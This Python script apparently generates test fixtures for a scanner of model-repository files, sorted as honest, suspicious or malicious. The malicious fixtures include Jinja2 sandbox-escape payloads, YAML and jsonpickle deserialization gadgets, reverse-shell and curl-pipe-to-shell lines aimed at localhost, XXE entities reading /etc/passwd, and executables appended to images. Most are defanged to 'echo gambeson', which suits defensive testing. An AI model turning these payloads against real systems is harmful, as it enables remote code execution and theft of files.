"""Makes the test files of texts, programs and pictures: honest ones as people write them, malicious ones inert.

What a malicious one would run is `echo gambeson`. PyYAML 6.0.4 only; python texts.py RESOURCES
"""
import base64
import json
import pathlib
import struct
import sys
import zlib

ROOT = pathlib.Path(sys.argv[1]) / "texts"


def put(name, data):
    path = ROOT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())


def put_json(name, value):
    put(name, json.dumps(value, indent=2, ensure_ascii=False) + "\n")


CHAT = """{%- if messages[0]['role'] == 'system' -%}
    {%- set system_message = messages[0]['content'] | trim -%}
    {%- set messages = messages[1:] -%}
{%- else -%}
    {%- set system_message = 'You are a helpful assistant. Today is ' + strftime_now('%d %b %Y') -%}
{%- endif -%}
{{- bos_token + '<|system|>\\n' + system_message + eos_token -}}
{%- set ns = namespace(tools_seen=false, index=0) -%}
{%- if tools -%}
    {{- '# Tools\\n<tools>' }}{% for tool in tools %}{{ '\\n' }}{{ tool | tojson(indent=4) }}{% endfor %}{{- '\\n</tools>' -}}
{%- endif -%}
{%- for message in messages -%}
    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) and not message.tool_calls -%}
        {{- raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') -}}
    {%- endif -%}
    {%- if message.content is string -%}
        {%- set content = message.content -%}
    {%- else -%}
        {%- set content = message.content | selectattr('type', 'equalto', 'text') | map(attribute='text') | join('\\n') -%}
    {%- endif -%}
    {%- if '</think>' in content -%}
        {%- set content = content.split('</think>')[-1].lstrip('\\n') -%}
    {%- endif -%}
    {{- '<|' + message.role + '|>\\n' + content -}}
    {%- for call in message.tool_calls or [] -%}
        {%- set arguments = call.function.arguments -%}
        {{- '<tool_call>{"name": "' ~ call.function.name ~ '", "arguments": ' -}}
        {%- for key, value in arguments.items() -%}{{ key }}={{ value | string if value is number else value | tojson }}{{ ', ' if not loop.last }}{%- endfor -%}
        {{- '}</tool_call>' -}}
    {%- endfor -%}
    {{- '<|__end__|>' + eos_token -}}
{%- endfor -%}
{% macro describe(name, type) %}{{ name.replace('_', ' ') | capitalize }}: {{ {'str': 'string', 'int': 'integer'}[type] }}{% endmacro %}
{# a remark with {{ braces }} #}
{%- if add_generation_prompt -%}{{- '<|assistant|>\\n' -}}{%- endif -%}
"""

ATTACKS = {
    "subclasses": "{{ ().__class__.__base__.__subclasses__()[140].__init__.__globals__['os'].popen('echo gambeson').read() }}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('echo gambeson').read() }}",
    "joiner": "{{ joiner.__init__.__globals__['o'+'s']['popen']('echo gambeson') }}",
    "namespace": "{{ namespace.__init__.__globals__.os.system('echo gambeson') }}",
    "lipsum": "{{ lipsum.__globals__['os'].system('echo gambeson') }}",
    "self": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('echo gambeson') }}",
    "attr-filter": "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
    "joined": "{{ ()['__cla'+'ss__']['__ba'~'se__'] }}",
    "adjacent": "{{ ()['__cla' 'ss__'] }}",
    "half": "{% set a='__cla' %}{% set b='ss__' %}{{ ()[a~b] }}",
    "hex": "{{ ()['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "octal": "{{ ()['\\137\\137class\\137\\137'] }}",
    "unicode": "{{ ()['\\u005f\\u005fclass\\u005f\\u005f'] }}",
    "named": "{{ ()['\\N{LOW LINE}_class__'] }}",
    "numbers": "{{ ()['%c%c%s%c%c'|format(95,95,'class',95,95)] }}",
    "repeated": "{{ ()['_'*2+'class'+'_'*2] }}",
    "attr-hidden": "{{ ()|attr(['_'*2,'class','_'*2]|join) }}",
    "map": "{{ [()]|map('attr', x)|list }}",
    "map-attribute": "{{ [()]|map(attribute='__class__.__base__')|list }}",
    "keyword": "{{ ()|attr(dict(__class__=1)|join) }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "format-uncalled": "{{ ['{0.x}'.format]|map('upper') }}",
    "format-map": "{{ '{a.b}'.format_map(messages) }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}{{ os.system('echo gambeson') }}",
    "statement": "{% if ''.__class__.__mro__[1].__subclasses__() %}{% endif %}",
    "comment-before": "{# {{ harmless }} #}{{ ''.__class__ }}",
    "raw-before": "{% raw %}{{ text }}{% endraw %}{{ ''.__class__ }}",
    "brace-in-string": "{{ '}}' ~ ''.__class__ }}",
    "frames": "{{ (x for x in messages).gi_frame.f_globals }}",
    "single": "{{ ()[['_','_','class','_','_']|join] }}",
    "padded": "{{ ()['class'.center(9,'_')] }}",
    "joined-by": "{{ ()['_'.join(['','','class','',''])] }}",
    "parenthesis": "{{ ()[('_')*2 ~ 'class'] }}",
    "variable": "{% set u = '_' %}{{ ()[u*2 ~ 'class' ~ u*2] }}",
    "reversed": "{{ ()['__ssalc__'[::-1]] }}",
    "lowered": "{{ ()['__CLASS__'|lower] }}",
    "replaced": "{{ ()['..class..'.replace('.', '_')] }}",
    "replaced-filter": "{{ ()['XXclassXX'|replace('X', '_')] }}",
    "letters": "{{ (()|select|string|list)[24] }}",
    "printed": "{{ (lipsum|string)[18] }}",
    "colon-format": "{{ ()['{:c}{:c}class{:c}{:c}'.format(95,95,95,95)] }}",
    "range": "{% for i in range(999999999) %}{% for j in range(999999999) %}x{% endfor %}{% endfor %}",
}


def templates():
    put("honest/chat_template.jinja", CHAT)
    put_json("honest/tokenizer_config.json", {"tokenizer_class": "PreTrainedTokenizerFast", "bos_token": "<s>", "chat_template": CHAT})
    put_json("honest/named/tokenizer_config.json", {"chat_template": [{"name": "default", "template": CHAT}, {"name": "tool_use", "template": CHAT}]})
    for name, attack in ATTACKS.items():
        put(f"malicious/template-{name}.jinja", attack)
    put_json("malicious/tokenizer_config.json", {"chat_template": CHAT + ATTACKS["cycler"]})
    put_json("malicious/named/tokenizer_config.json", {"chat_template": [{"name": "default", "template": CHAT}, {"name": "rag", "template": ATTACKS["self"]}]})
    put_json("malicious/processor_config.json", {"chat_template": {"default": ATTACKS["hex"]}})


def configurations():
    put_json("honest/config.json", {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8, "auto_map": {}, "torch_dtype": "bfloat16"})
    put_json("honest/modules.json", [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}])
    put_json("honest/model_index.json", {
        "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "safety_checker": [None, None],
        "scheduler": ["diffusers", "PNDMScheduler"], "text_encoder": ["transformers", "CLIPTextModel"]})
    put_json("honest/model.safetensors.index.json", {"metadata": {"total_size": 8}, "weight_map": {"a": "model-00001-of-00002.safetensors"}})
    put_json("honest/hydra.json", {"model": {"_target_": "torch.nn.Linear", "in_features": 4}})
    put_json("honest/vocab.json", {"os": 0, "system": 1, "eval": 2, "__import__": 3, "{{": 4, "{%": 5, "__class__": 6})
    put_json("honest/notebook.ipynb", {"cells": [{"cell_type": "code", "source": ["import os\n", "f'{{x.__class__}}'"], "outputs": []}], "nbformat": 4})
    put("honest/lines.jsonl", '{"text": "a"}\n{"text": "b"}\n')
    put("honest/numbers.json", '{"a": NaN, "b": -Infinity, "c": 1e400}\n')
    put("honest/settings.json", '// for people\n{\n  "a": 1, /* why */\n  "b": [1, 2,],\n}\n')
    put("honest/MLmodel", "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n"
        "    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.1\n  sklearn:\n    pickled_model: model.pkl\n"
        "    serialization_format: cloudpickle\nmlflow_version: 2.9.2\n")
    put("honest/conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11.1\n- pip<=23\n- pip:\n  - mlflow==2.9.2\n  - scikit-learn==1.4.0\nname: mlflow-env\n")
    put("honest/requirements.txt", "# exact\nmlflow==2.9.2\nnumpy>=1.26,<2\ntorch==2.1.0 ; python_version > '3.8'\n")
    put("honest/tags.yaml", "a: !!python/tuple [1, 2]\nb: !!python/object/apply:collections.OrderedDict\n- [[a, 1]]\n".replace("\n- [[", "\n  - [["))
    put("honest/anchors.yaml", "base: &base {lr: 0.1, steps: 10}\nfirst:\n  <<: *base\n  name: a\nsecond: *base\n")
    put("honest/remark.yaml", "# never write !!python/object/apply:os.system here\ntext: 'say !!python/name:os.system aloud'\n")
    put_json("suspicious/config.json", {"model_type": "x", "auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"}})
    put_json("suspicious/modules.json", [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}])
    put_json("suspicious/model_index.json", {"_class_name": ["my_pipeline", "Pipe"], "_diffusers_version": "0.30.0", "unet": ["my_unet", "Unet"]})
    put("suspicious/MLmodel", "flavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n    data: model.bin\n")
    put("suspicious/requirements.txt", "--extra-index-url http://packages.example.org/simple\nmlflow\n")
    put_json("malicious/elsewhere/config.json", {"auto_map": {"AutoModel": "other/repository--modeling.Model"}})
    put_json("malicious/outside/config.json", {"auto_map": {"AutoModel": "../../modeling.Model"}})
    put_json("malicious/pipelines/config.json", {"custom_pipelines": {"x": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}})
    put_json("malicious/modules.json", [{"idx": 0, "name": "0", "path": "", "type": "os.system"}])
    put_json("malicious/model.safetensors.index.json", {"weight_map": {"a": "../../../etc/passwd"}})
    put_json("malicious/hydra.json", {"model": {"_target_": "os.system", "command": "echo gambeson"}})
    put("malicious/hydra.yaml", "model:\n  _target_: builtins.eval\n  _args_: [\"print('gambeson')\"]\n")
    put_json("malicious/jsonpickle.json", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo gambeson"]}]})
    put_json("malicious/jsonpickle-repr.json", {"a": {"py/repr": "os/os.system('echo gambeson')"}})
    put_json("malicious/keras.json", {"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None]}}]}})
    put("malicious/MLmodel", "flavors:\n  python_function:\n    loader_module: subprocess\n    data: ../../../etc\n    python_model: m.pkl\n")
    put("malicious/apply.yaml", "a: 1\nb: !!python/object/apply:os.system ['echo gambeson']\n")
    put("malicious/apply-list.yaml", "!!python/object/apply:subprocess.check_output\nargs: [echo gambeson]\n")
    put("malicious/new.yaml", "- !!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ['1']]]\n")
    put("malicious/verbatim.yaml", "a: !<tag:yaml.org,2002:python/object/apply:os.system> [echo gambeson]\n")
    put("malicious/handle.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [echo gambeson]\n")
    put("malicious/escaped.yaml", "a: !!python/object/apply:os%2Esystem [echo gambeson]\n")
    put("malicious/java.yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://127.0.0.1/']]]]\n")
    put("malicious/broken.yaml", "a: !!python/object/apply:os.system ['echo gambeson']\nb: [\n")
    put("malicious/aliases.yaml", "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(f"{c}: &{c} [{','.join(['*' + p] * 10)}]\n" for p, c in zip("abcdefgh", "bcdefghi")))
    put("malicious/nested.json", "[" * 5000 + "]" * 5000)
    put("malicious/nested.yaml", "a: " + "[" * 400 + "]" * 400)


def programs():
    put("honest/modeling.py", "import torch\nfrom torch import nn\n\n\nclass Model(nn.Module):\n    def forward(self, x):\n        self.eval()\n        return torch.exp(x)\n\n\n"
        "if __name__ == '__main__':\n    import subprocess\n    subprocess.run(['ls'])\n")
    put("honest/install.py", 'HINT = "Install it: curl -LsSf https://example.org/install.sh | bash"\n\n\ndef hint():\n    return HINT\n')
    put("malicious/start.pth", "import os; os.system('echo gambeson')\n")
    put("honest/paths.pth", "../lib\n")
    put("malicious/fetch.py", "import os\n\n\ndef load():\n    os.system('curl -s http://127.0.0.1/x | sh')\n")
    put("honest/train.sh", "#!/bin/bash\nset -e\npython train.py --lr 0.1\ncurl -O https://example.org/data.csv\n")
    put("malicious/decode.py", f"import base64\nexec(base64.b64decode('{base64.b64encode(b'print(1)').decode()}'))\n")
    put("malicious/hidden.py", "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))\n")
    put("malicious/import-os.py", "import torch\n__import__('os').system('echo gambeson')\n")
    put("malicious/top-level.py", "import os\nos.system('echo gambeson')\n\nclass Model: pass\n")
    put("malicious/socket.py", "import socket,subprocess,os\ns=socket.socket()\ns.connect(('127.0.0.1',9))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n")
    put("malicious/unpickle.py", "import pickle, base64\npickle.loads(base64.b64decode('gASVAA=='))\n")
    put("malicious/fetch.sh", "#!/bin/sh\ncurl -s http://127.0.0.1/x | bash\n")
    put("malicious/door.sh", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n")
    put("malicious/encoded.ps1", "powershell -nop -EncodedCommand ZQBjAGgAbwAgAGcAYQBtAGIAZQBzAG8AbgBlAGMAaABvAA==\n")
    put("malicious/weights.bin", "#!/bin/sh\necho gambeson\n")
    put("malicious/library.so", b"\x7fELF\x02\x01\x01" + bytes(57))
    put("malicious/model.bin", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(20))
    put("malicious/library.dylib", bytes.fromhex("cffaedfe0c000001") + bytes(24))
    put("malicious/fat", bytes.fromhex("cafebabe00000002") + bytes(40))
    put("malicious/Evil.class", bytes.fromhex("cafebabe00000034") + bytes(40))
    put("malicious/module.wasm", b"\0asm\1\0\0\0" + bytes(8))
    put("malicious/module.pyc", bytes.fromhex("a70d0d0a00000000") + bytes(8) + b"\xe3\0\0\0\0" + bytes(30))
    put("malicious/code.marshal", b"\xe3\0\0\0\0" + bytes(30))


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pictures():
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    jpeg = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffda0008010100003f00") + b"\x12\xff\x00\x34\xff\xd0\x56" + bytes.fromhex("ffd9")
    gif = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
    put("honest/a.png", png)
    put("honest/b.jpg", jpeg)
    put("honest/c.gif", gif)
    put("honest/d.webp", b"RIFF" + struct.pack("<I", 12) + b"WEBPVP8 " + struct.pack("<I", 0))
    put("honest/padded.png", png + bytes(16))
    put("malicious/behind.png", png + elf)
    put("malicious/behind.jpg", jpeg + elf)
    put("malicious/behind.gif", gif + elf)
    put("broken/cut.png", png[:-8])
    put("broken/table.parquet", b"PAR1" + bytes(20))
    put("honest/table.parquet", b"PAR1" + bytes(20) + b"PAR1")
    put("malicious/type.parquet", b"PAR1" + bytes(8) + b"ARROW:schema\x18\x40" + base64.b64encode(b"\xff\xff\xff\xff" + bytes(12) + b"ARROW:extension:name arrow.py_extension_type  ") + b"PAR1")


def markup():
    pmml = ('<?xml version="1.0" encoding="UTF-8"?>\n{}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Application name="x"/></Header>'
            '<DataDictionary numberOfFields="1"><DataField name="a" optype="continuous" dataType="double"/></DataDictionary>{}</PMML>\n')
    put("honest/model.pmml", pmml.format("", '<RegressionModel functionName="regression"><MiningSchema><MiningField name="a"/></MiningSchema>'
                                             '<RegressionTable intercept="1"><NumericPredictor name="a" coefficient="2"/></RegressionTable></RegressionModel>'))
    put("honest/plist.xml", '<?xml version="1.0"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>\n')
    put("honest/model.xml", '<?xml version="1.0"?><net name="x" version="11"><layers><layer id="0" name="a" type="Parameter"/></layers></net>\n')
    put("malicious/file.pmml", pmml.format('<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', "<Extension>&x;</Extension>"))
    put("malicious/public.pmml", pmml.format('<!DOCTYPE PMML [<!ENTITY x PUBLIC "p" "http://127.0.0.1/x">]>\n', "<Extension>&x;</Extension>"))
    put("malicious/parameter.pmml", pmml.format('<!-- > --><!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://127.0.0.1/x.dtd"> %p;]>\n', ""))
    put("malicious/laughs.pmml", pmml.format('<!DOCTYPE PMML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>\n', "<Extension>&c;</Extension>"))
    put("malicious/type.xml", '<?xml version="1.0"?>\n<!DOCTYPE net SYSTEM "http://127.0.0.1/evil.dtd">\n<net/>\n')
    put("malicious/wide.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'.encode("utf-16"))
    put("malicious/include.xml", '<?xml version="1.0"?><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>\n')
    put("malicious/decoder.xml", '<?xml version="1.0"?><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder">'
                                 '<array class="java.lang.String" length="1"><void index="0"><string>echo</string></void></array><void method="start"/></object></java>\n')
    put("malicious/xstream.xml", '<?xml version="1.0"?><map><entry><java.lang.ProcessBuilder><command><string>echo</string></command></java.lang.ProcessBuilder></entry></map>\n')
    put("malicious/script.pmml", pmml.format("", "<Extension><script>gambeson()</script></Extension>"))
    put("malicious/function.pmml", pmml.format("", '<TransformationDictionary><DerivedField name="d"><Apply function="com.example.functions.Evil"/></DerivedField></TransformationDictionary>'))
    put("malicious/bare.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a>&x;</a>\n')
    put("malicious/seven.xml", '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>\n')
    put("malicious/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>gambeson()</script></svg>\n')
    put("honest/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><path d="M0 0"/></svg>\n')
    put("malicious/style.xml", '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>\n')
    put("broken/cut.pmml", pmml.format("", "")[:-20])


def plain():
    put("honest/README.md", "---\nlicense: mit\ntags:\n- text-generation\n---\n# A model\nUse `hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx` or AKIAIOSFODNN7EXAMPLE,\n"
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY, sk-xxxxxxxx, ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.\n"
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n"
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c\n")
    put("honest/merges.txt", "#version: 0.2\nĠ t\nĠ a\nh e\nc os\n( S\n")
    put("honest/pointer.safetensors", "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n")
    put("honest/latin.csv", "name,note\nJosé,café\nMüller,schön\n".encode("latin-1"))
    put("honest/wide.txt", "Grüße aus UTF-16\n".encode("utf-16"))
    put("honest/page.html", "<!DOCTYPE html>\n<html><body><script>let a = 1 && 2;</script><br></body></html>\n")
    put("honest/.gitattributes", "*.safetensors filter=lfs diff=lfs merge=lfs -text\n")
    put("honest/labels.txt", "cat\ndog\n")
    put("honest/log.txt", "\x1b[32mINFO\x1b[0m step 1\n")
    put("broken/half.txt", "a text\n" * 800 + "\0\1\2\3" * 100)


templates()
configurations()
programs()
pictures()
markup()
plain()
